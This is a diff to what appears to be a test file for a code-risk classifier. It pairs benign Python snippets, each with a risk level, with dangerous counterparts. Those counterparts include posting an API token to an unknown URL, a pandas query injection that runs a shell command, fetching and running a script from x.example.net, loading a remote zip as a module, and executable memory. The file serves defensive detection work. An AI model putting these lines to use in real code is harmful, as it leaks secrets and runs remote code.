@@ -142,6 +142,52 @@ PAIRS = [
         ("import asyncio\nasync def f(): await asyncio.sleep(1)\nasyncio.run(f())", "L0"),
         'import asyncio\nasync def f(): await asyncio.create_subprocess_shell("id")\nasyncio.run(f())',
     ),
+    (
+        "a constant that is looked up by a level in capitals, and anything",
+        ("import logging, sys\nlogging.basicConfig(level=getattr(logging, sys.argv[1].upper()))", "L0"),
+        "import logging, sys\ngetattr(logging, sys.argv[1])()",
+    ),
+    (
+        "flags that are read by name, and a module that is",
+        ("import sys\nfor name in names:\n    print(getattr(sys.flags, name))", "L0"),
+        "import sys\nfor name in names:\n    print(getattr(sys, name))",
+    ),
+    (
+        "a header that is set, and a body",
+        ('import os, requests\nrequests.Session().headers.update({"Authorization": os.environ["API_TOKEN"]})', "L2"),
+        'import os, requests\nrequests.Session().post(u, json={"a": os.environ["API_TOKEN"]})',
+    ),
+    (
+        "a build through a shell, and a line that nobody knows",
+        ('import subprocess\nsubprocess.run("npm run build", shell=True)', "L2"),
+        "import subprocess\nsubprocess.run(line, shell=True)",
+    ),
+    (
+        "a kind that is asked for, and made",
+        ("import types\nprint(isinstance(f, (types.FunctionType, int)))", "L0"),
+        "import types\ntypes.FunctionType(code, {})()",
+    ),
+    (
+        "rows that are filtered, and a filter that calls",
+        ('import pandas as pd\nlow = 3\npd.DataFrame(rows).query(f"age > @low and size < {low}")', "L1"),
+        """import pandas as pd\npd.DataFrame(rows).query("@__import__('os').system('id')")""",
+    ),
+    (
+        "a download that is kept, and one that is run",
+        ('import subprocess\nsubprocess.run(["curl", "-so", "a.csv", "https://x.example.net/a.csv"])', "L2"),
+        'import subprocess\nsubprocess.run("curl -so i.sh https://x.example.net/i", shell=True)\n'
+        'subprocess.run(["sh", "./i.sh"])',
+    ),
+    (
+        "modules of a folder, and of an archive from elsewhere",
+        ('import sys\nsys.path.insert(0, "lib.zip")\nimport m', "L1"),
+        'import sys, urllib.request as u\nu.urlretrieve("https://x.example.net/m", "m.zip")\nsys.path.insert(0, "m.zip")',
+    ),
+    (
+        "memory that is shared, and that is run",
+        ("import mmap\nmmap.mmap(-1, 4096)", "L1"),
+        "import mmap\nmmap.mmap(-1, 4096, prot=7)",
+    ),
 ]
 
 
